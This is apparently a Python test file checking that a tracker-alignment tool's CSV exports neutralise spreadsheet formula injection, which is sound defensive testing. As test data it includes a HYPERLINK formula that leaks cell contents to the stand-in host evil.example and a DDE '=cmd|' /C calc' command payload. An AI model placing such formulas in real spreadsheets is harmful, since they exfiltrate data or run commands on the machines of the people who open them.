"""CSV for spreadsheets: text from trackers and configuration never runs as a formula."""

from __future__ import annotations

import csv
import io

from factories import item, sample_declarations
from tieback.alignment import align
from tieback.formats import get_format
from tieback.report import build_report
from tieback.rules import CoverageRules, ExemptRules, TagRules
from tieback.store import Snapshot
from tieback.trend import render, series

# What spreadsheets read as the start of a formula (OWASP, "CSV injection").
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_every_text_column_of_the_audit_csv_is_defused() -> None:
    declarations = sample_declarations()
    items = [
        item(
            "=EPIC-1",
            source="github",
            title="+epic",
            type="-Epic",
            status="@Open",
            team="\tgrading",
            url=FORMULA,
            labels=("outcome:activation",),
            points=2,
        ),
        # A Jira label may legally be outcome:=HYPERLINK(...); the ref is kept as written.
        item("\rEDU-2", title=FORMULA, parent="=EPIC-1", points=1, team="=team"),
        item("EDU-3", labels=(f"outcome:{FORMULA}",), points=-3.5, team="-ops"),
    ]
    result = align(items, declarations, TagRules(), ExemptRules())
    report = build_report(result.alignments, declarations, CoverageRules(weight="points"))
    found = {row["title"]: row for row in rows(get_format("csv").render(report))}

    assert found["'+epic"]["key"] == "'=EPIC-1"
    assert found["'+epic"]["url"] == "'" + FORMULA
    assert found["'+epic"]["type"] == "'-Epic"
    assert found["'+epic"]["status"] == "'@Open"
    assert found["'+epic"]["team"] == "'\tgrading"
    assert found["'" + FORMULA]["key"] == "'\nEDU-2"
    assert found["'" + FORMULA]["inherited_from"] == "'=EPIC-1"
    assert found["Work on EDU-3"]["refs"] == "'" + FORMULA.lower()  # refs compare lower-cased
    assert found["Work on EDU-3"]["team"] == "'-ops"
    for row in found.values():
        for column, cell in row.items():
            if column != "weight":
                assert not cell.startswith(TRIGGERS), (column, cell)
    # Weights are tieback's own numbers: a negative estimate stays a number.
    assert found["Work on EDU-3"]["weight"] == "-3.5"
    assert found["'+epic"]["weight"] == "2"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row() -> None:
    # Spreadsheets break a row at a bare CR; csv quotes only its line terminator's
    # characters, so "\r=..." written unquoted would put a formula at a row's start.
    declarations = sample_declarations()
    items = [item("EDU-1", title="Fix it\r=1+2", team="a\r\n@b"), item("EDU-2")]
    result = align(items, declarations, TagRules(), ExemptRules())
    text = get_format("csv").render(build_report(result.alignments, declarations, CoverageRules()))
    assert "\r" not in text
    found = rows(text)
    assert [row["key"] for row in found] == ["EDU-1", "EDU-2"]
    assert (found[0]["title"], found[0]["team"]) == ("Fix it\n=1+2", "a\n@b")


def test_every_text_column_of_the_trend_csv_is_defused() -> None:
    teams = {
        "=cmd|' /C calc'!A0": {"items": 2, "aligned": 1, "unaligned": 1, "coverage": -3.5},
        "@ops": {"items": 1, "aligned": 0, "unaligned": 1, "exempt": 0, "coverage": 0.0},
    }
    snapshot = Snapshot(1, "2026-11-01T10:00:00Z", "audit", {"totals": {}, "teams": teams})
    found = {row["name"]: row for row in rows(render(series([snapshot], "team"), "team", "csv"))}

    assert set(found) == {"'=cmd|' /C calc'!A0", "'@ops"}
    # Coverage, counts and weights are tieback's own numbers, negative or not.
    assert found["'=cmd|' /C calc'!A0"]["coverage"] == "-3.5"
    assert found["'@ops"]["unaligned"] == "1"
    for row in found.values():
        for column in ("taken_at", "name"):
            assert not row[column].startswith(TRIGGERS)
